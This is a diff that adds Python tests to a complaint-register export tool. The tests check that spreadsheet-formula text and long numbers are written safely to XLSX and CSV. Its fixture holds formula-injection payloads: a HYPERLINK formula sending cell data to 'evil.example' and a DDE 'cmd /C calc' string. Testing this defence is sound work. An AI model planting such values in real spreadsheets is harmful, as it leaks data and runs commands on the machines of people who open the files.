@@ -185,3 +185,70 @@ def test_careless_input_is_refused_in_one_line_and_leaves_no_file(run, tmp_path,
     assert result.stderr.startswith("Error: ") and result.stderr.count("\n") == 1
     assert message in result.stderr, result.stderr
     assert [p.name for p in out_dir.iterdir()] == ["folder.xlsx"]
+
+
+# -- formulas and long numbers: what a spreadsheet would do with the values ----------------
+
+FORMULAS = {"customer": '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
+            "product": "+1+cmd|' /C calc'!A0", "part_no": "-2+3", "order_no": "@SUM(1,2)"}
+
+
+def test_text_that_looks_like_a_formula_stays_text(run, tmp_path):
+    number = new_complaint(run, *[f"{fid}={value}" for fid, value in FORMULAS.items()])
+    xlsx, csv_out = tmp_path / "r.xlsx", tmp_path / "r.csv"
+    as_json(run("register", "complaint", "--out", xlsx, "--json"))
+    as_json(run("register", "complaint", "--out", csv_out, "--json"))
+
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(xlsx)["台账 Register"]
+    headings = [cell.value for cell in sheet[1]]
+    row = {heading: cell for heading, cell in zip(headings, sheet[2])}
+    assert row["记录编号 Number"].value == number
+    for heading, value in (("客户名称 Customer", FORMULAS["customer"]),
+                           ("产品名称 Product", FORMULAS["product"]),
+                           ("料号 Part no.", FORMULAS["part_no"]),
+                           ("订单编号 Order no.", FORMULAS["order_no"])):
+        cell = row[heading]
+        # a string cell holding the text as typed, marked as typed text ('=...) for Excel
+        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", value, True), heading
+    assert row["数量 Quantity"].data_type == "n"  # numbers stay numbers
+    assert row["市场 Market"].quotePrefix is False  # only what needs it is marked
+
+    rows = list(csv.DictReader(io.StringIO(csv_out.read_text("utf-8-sig"))))
+    assert rows[0]["客户名称 Customer"] == "'" + FORMULAS["customer"]
+    assert rows[0]["产品名称 Product"] == "'" + FORMULAS["product"]
+    assert rows[0]["料号 Part no."] == "'-2+3" and rows[0]["订单编号 Order no."] == "'@SUM(1,2)"
+    assert rows[0]["数量 Quantity"] == "500" and rows[0]["记录编号 Number"] == number
+
+
+def test_csv_cells_starting_with_tab_or_carriage_return_are_neutralised():
+    from qrecords.api.register import csv_text
+
+    assert [csv_text(v) for v in ("\tx", "\rx", "=1", "+1", "-1", "@x", "x=1", "", "'x")] == \
+        ["'\tx", "'\rx", "'=1", "'+1", "'-1", "'@x", "x=1", "", "'x"]
+
+
+def test_whole_numbers_keep_every_digit_in_the_xlsx(run, tmp_path):
+    big = "123456789012345678"           # 18 digits, what the catalog keeps
+    above_2_53 = str(2 ** 53 + 1)        # 9007199254740993: a double would make it ...992
+    fifteen = "123456789012345"          # what a spreadsheet's number cell holds exactly
+    for quantity, defective in ((big, above_2_53), (fifteen, "-0")):
+        new_complaint(run, f"quantity={quantity}", f"defective_quantity={defective}",
+                      "disposition_amount=1234567890123.45")
+    out = tmp_path / "r.xlsx"
+    as_json(run("register", "complaint", "--out", out, "--json"))
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(out)["台账 Register"]
+    headings = [cell.value for cell in sheet[1]]
+    first, second = ({h: c for h, c in zip(headings, row)} for row in sheet.iter_rows(min_row=2))
+    assert (first["数量 Quantity"].data_type, first["数量 Quantity"].value) == ("s", big)
+    assert (first["不良数量 Defective quantity"].data_type,
+            first["不良数量 Defective quantity"].value) == ("s", above_2_53)
+    assert (second["数量 Quantity"].data_type, second["数量 Quantity"].value) == \
+        ("n", int(fifteen))
+    assert second["不良数量 Defective quantity"].value == 0
+    # 15 significant digits fit a number cell; the amount keeps its two places
+    assert first["金额 Amount"].data_type == "n"
+    assert str(first["金额 Amount"].value) == "1234567890123.45"
